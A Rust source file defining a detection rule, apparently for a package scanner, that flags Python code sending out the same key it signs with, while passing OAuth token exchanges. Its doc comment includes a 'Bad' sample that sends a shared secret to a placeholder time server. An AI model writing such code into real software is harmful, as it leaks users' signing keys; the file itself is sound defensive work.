//! ## What it detects
//!
//! A key that code signs with and that it sends as well.
//!
//! ## Why it is bad
//!
//! Who signs shares the key with the service beforehand: the signature is what proves it, and the key never travels. Fake
//! clients of exchanges and generators of one-time codes send it as part of a licence check or of a query for the time.
//!
//! ## Innocent lookalikes
//!
//! OAuth has a client send its secret for a token, and some services let it sign with the same: requests that speak of
//! that are passed.
//!
//! ## Bad
//!
//! ```python x/__init__.py
//! import hmac, requests
//! def code(shared_secret, counter):
//!     time = requests.get('https://time.example.invalid/', params={'k': shared_secret}).json()['time']
//!     return hmac.new(shared_secret, str(time + counter).encode(), 'sha1').hexdigest()
//! ```
//!
//! ## Good
//!
//! ```python x/__init__.py
//! import hmac, requests
//! def order(api_key, api_secret, text):
//!     signature = hmac.new(api_secret, text.encode(), 'sha256').hexdigest()
//!     return requests.post('https://api.example.invalid/', json={'key': api_key, 'order': text, 'sign': signature}).json()
//! ```
//!
//! ## Good
//!
//! ```python x/__init__.py
//! import hmac, requests
//! def token(app_secret, code):
//!     return requests.post('https://api.example.invalid/oauth/token', data={'client_secret': app_secret, 'code': code}).json()
//! def proof(app_secret, token):
//!     return hmac.new(app_secret, token, 'sha256').hexdigest()
//! ```

use fondaco_python::{Taint, signs_in};
use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity};

use super::secret_exfiltration::of;
use crate::sending::sent;
use crate::{Hits, Package, Rule};

pub(crate) const RULE: Rule = Rule {
    id: RuleId::new("signing-key-sent"),
    title: "sends the key that it signs with",
    severity: Severity::High,
    confidence: Confidence::Medium,
    behaviour: Some(Behaviour::Exfiltration),
    weight: 1.2,
    check,
};

/// What is said where a secret is exchanged for a token (RFC 6749).
const EXCHANGES: [&str; 5] = ["oauth", "client_secret", "grant_type", "access_token", "/token"];

fn check(package: &Package<'_>, hits: &mut Hits) {
    for (unit, call) in package.calls() {
        let carries = sent(call).any(|(name, value)| !signs_in(name) && of(value).has(Taint::SIGNS));
        let exchanges = || call.texts().iter().any(|text| EXCHANGES.iter().any(|word| text.to_ascii_lowercase().contains(word)));
        if carries && !call.callee.contains(".recv") && !exchanges() {
            // Whoever calls the function is who is robbed.
            hits.line(unit, call.line, format!("{} of a key that is signed with", call.callee));
        }
    }
}
